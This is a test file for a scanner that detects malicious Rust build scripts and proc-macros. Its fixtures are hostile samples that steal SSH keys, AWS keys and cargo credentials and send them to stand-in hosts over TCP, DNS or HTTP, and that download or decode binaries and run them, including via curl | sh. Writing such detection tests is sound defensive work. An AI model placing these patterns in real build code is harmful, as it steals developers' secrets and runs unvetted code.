/**
 * Realistic hostile build scripts and proc-macros, each combining several rules the way real
 * attacks do (steal a key and send it, download and run a binary, unpack an encoded payload,
 * drop an embedded binary). Expected findings are `// expect: rule/severity` markers; the test
 * requires exactly those.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { analyzeBuildScript, analyzeProcMacro } from "./build-script-analysis.js";
import { highestSeverity } from "./build-script-finding.js";
import {
  expectedMarkers,
  fakeBase64,
  findingKeys,
  memoryReader,
  testParser,
} from "./build-script-test-kit.test.js";

async function check(files: Record<string, string>): Promise<void> {
  const parser = await testParser();
  const result = analyzeBuildScript(parser, { entry: "build.rs", read: memoryReader(files) });
  assert.deepEqual(
    findingKeys(result.findings),
    expectedMarkers(files),
    JSON.stringify(result.findings, null, 1),
  );
  assert.equal(highestSeverity(result.findings), "high");
}

describe("hostile build scripts", () => {
  it("reads ~/.ssh/id_rsa and sends it over a TcpStream", async () => {
    await check({
      "build.rs": `use std::io::{Read, Write};
use std::net::TcpStream; // expect: network/high
use std::path::PathBuf;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let home = std::env::var("HOME").unwrap_or_default(); // expect: secret-env/high
    let key_path = PathBuf::from(home).join(".ssh").join("id_rsa"); // expect: credential-path/high
    let mut key = String::new();
    let _ = std::fs::File::open(&key_path).and_then(|mut f| f.read_to_string(&mut key)); // expect: path-read/high
    if let Ok(mut s) = TcpStream::connect("203.0.113.7:4444") { // expect: network/high
        let _ = s.write_all(key.as_bytes());
    }
}
`,
    });
  });

  it("downloads a binary into OUT_DIR, makes it executable and runs it", async () => {
    await check({
      "build.rs": `use std::os::unix::fs::PermissionsExt;
use std::{env, fs, path::Path, process::Command};

fn main() {
    let out = env::var("OUT_DIR").unwrap();
    let bin = Path::new(&out).join("helper");
    let bytes = reqwest::blocking::get("https://example.invalid/helper") // expect: network/high
        .unwrap()
        .bytes()
        .unwrap();
    fs::write(&bin, &bytes).unwrap();
    fs::set_permissions(&bin, fs::Permissions::from_mode(0o755)).unwrap();
    Command::new(&bin).status().unwrap(); // expect: process/high
}
`,
    });
  });

  it("decodes a base64 payload to /tmp and runs it", async () => {
    await check({
      "build.rs": `const PAYLOAD: &str = "${fakeBase64(600)}"; // expect: encoded-blob/high

fn main() {
    let data = base64::decode(PAYLOAD).unwrap();
    let path = "/tmp/.cache-helper";
    std::fs::write(path, &data).unwrap(); // expect: path-write/high
    std::process::Command::new(path).spawn().unwrap(); // expect: process/high
}
`,
    });
  });

  it("drops an embedded binary into OUT_DIR and runs it", async () => {
    await check({
      "build.rs": `use std::io::Write;
static TOOL: &[u8] = include_bytes!("tool.bin"); // expect: include-binary/high

fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    let p = format!("{}/tool", out);
    let mut f = std::fs::File::create(&p).unwrap();
    f.write_all(TOOL).unwrap();
    drop(f);
    std::process::Command::new(&p).status().unwrap(); // expect: process/high
}
`,
    });
  });

  it("exfiltrates a cloud key through a DNS lookup, and runs curl | sh from inside a macro", async () => {
    await check({
      "build.rs": `use std::net::ToSocketAddrs; // expect: network/high
macro_rules! later {
    () => {
        std::process::Command::new("sh").arg("-c").arg("curl -s https://example.invalid/x | sh") // expect: process/high
    };
}
fn main() {
    if let Ok(k) = std::env::var("AWS_ACCESS_KEY_ID") { // expect: secret-env/high
        let _ = format!("{}.example.invalid:53", k).to_socket_addrs(); // expect: network/high
    }
    let _ = later!().status();
}
`,
    });
  });
});

describe("hostile proc-macro", () => {
  it("reads cargo's credentials at expansion time and posts them with ureq", async () => {
    const parser = await testParser();
    const files = {
      "src/lib.rs": `use proc_macro::TokenStream;
#[proc_macro_derive(Helpful)]
pub fn derive(input: TokenStream) -> TokenStream {
    if let Some(home) = home::home_dir() { // expect: path-read/high
        let creds = std::fs::read_to_string(home.join(".cargo/credentials.toml")).unwrap_or_default(); // expect: path-read/high expect: credential-path/high
        let _ = ureq::post("https://example.invalid/c").send_string(&creds); // expect: network/high
    }
    input
}
`,
    };
    const result = analyzeProcMacro(parser, {
      entry: "src/lib.rs",
      files: ["src/lib.rs"],
      read: memoryReader(files),
    });
    assert.deepEqual(
      findingKeys(result.findings),
      expectedMarkers(files),
      JSON.stringify(result.findings, null, 1),
    );
  });
});
